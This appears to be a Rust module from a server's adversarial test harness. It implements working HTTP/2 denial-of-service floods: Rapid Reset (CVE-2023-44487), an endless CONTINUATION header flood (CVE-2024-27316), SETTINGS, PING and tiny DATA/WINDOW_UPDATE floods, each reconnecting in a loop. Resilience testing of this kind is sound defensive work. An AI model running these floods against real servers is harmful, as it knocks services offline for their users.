//! Callers without a key that use HTTP/2 frames to keep the server busy.

use std::time::Duration;

use anyhow::Result;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::sleep,
};

use super::foe::Foe;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// `POST /` with the scheme http, in HPACK.
const BLOCK: &[u8] = &[0x83, 0x86, 0x84, 0x41, 0x01, b'x'];
/// How many frames are written at once.
const BURST: u32 = 500;
/// The pause after a connection was closed.
const PAUSE: Duration = Duration::from_millis(20);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Sends the bursts of one connection. `reads` says whether it reads the answers.
async fn flood(
    foe: Foe,
    reads: bool,
    begin: &'static [u8],
    burst: fn(u32) -> Vec<u8>,
) -> Result<()> {
    foe.at_once(foe.of(4, 1), move |foe, _| async move {
        loop {
            let (mut reader, mut writer) = TcpStream::connect(foe.address()).await?.into_split();
            let reading = tokio::spawn(async move {
                let mut buffer = vec![0; 16 * 1_024];
                while reads && reader.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
                reader
            });
            let sent = async {
                writer.write_all(PREFACE).await?;
                writer.write_all(begin).await?;
                for number in 0.. {
                    writer.write_all(&burst(number)).await?;
                    foe.hit();
                    sleep(foe.of(Duration::from_millis(2), Duration::from_millis(500))).await;
                }
                std::io::Result::Ok(())
            };
            // The server closes the connection or stops reading.
            let _ = tokio::time::timeout(Duration::from_secs(10), sent).await;
            reading.abort();
            sleep(PAUSE).await;
        }
    })
    .await
}

fn many(make: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..BURST).flat_map(make).collect()
}

/// Sends requests and resets them at once (CVE-2023-44487).
pub async fn rapid_reset(foe: Foe) -> Result<()> {
    flood(foe, true, &[], |number| {
        many(|each| {
            let stream = 2 * (number * BURST + each) + 1;
            [
                frame(HEADERS, END_HEADERS, stream, BLOCK),
                frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]),
            ]
            .concat()
        })
    })
    .await
}

/// Sends settings that must be acknowledged, without reading.
pub async fn settings(foe: Foe) -> Result<()> {
    flood(foe, false, &[], |_| {
        many(|each| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, (each >> 8) as u8, each as u8]))
    })
    .await
}

/// Sends pings that must be answered, without reading.
pub async fn pings(foe: Foe) -> Result<()> {
    flood(foe, false, &[], |_| {
        many(|each| frame(PING, 0, 0, &[&[0; 4], each.to_be_bytes().as_slice()].concat()))
    })
    .await
}

/// Sends pings and reads the answers.
pub async fn answered_pings(foe: Foe) -> Result<()> {
    flood(foe, true, &[], |_| many(|_| frame(PING, 0, 0, &[7; 8]))).await
}

/// Sends a head that does not end (CVE-2024-27316).
pub async fn continuations(foe: Foe) -> Result<()> {
    // The literal field `a: b`, not indexed.
    const FIELD: &[u8] = &[0, 1, b'a', 1, b'b'];
    // HEADERS without the end of the head, on stream 1.
    const BEGIN: &[u8] = &[0, 0, 6, HEADERS, 0, 0, 0, 0, 1, 0x83, 0x86, 0x84, 0x41, 0x01, b'x'];
    flood(foe, true, BEGIN, |_| many(|_| frame(CONTINUATION, 0, 1, FIELD))).await
}

/// Sends empty DATA frames, and WINDOW_UPDATE frames of one byte.
pub async fn small_frames(foe: Foe) -> Result<()> {
    const BEGIN: &[u8] =
        &[0, 0, 6, HEADERS, END_HEADERS, 0, 0, 0, 1, 0x83, 0x86, 0x84, 0x41, 0x01, b'x'];
    flood(foe, true, BEGIN, |_| {
        many(|_| [frame(DATA, 0, 1, &[]), frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])].concat())
    })
    .await
}
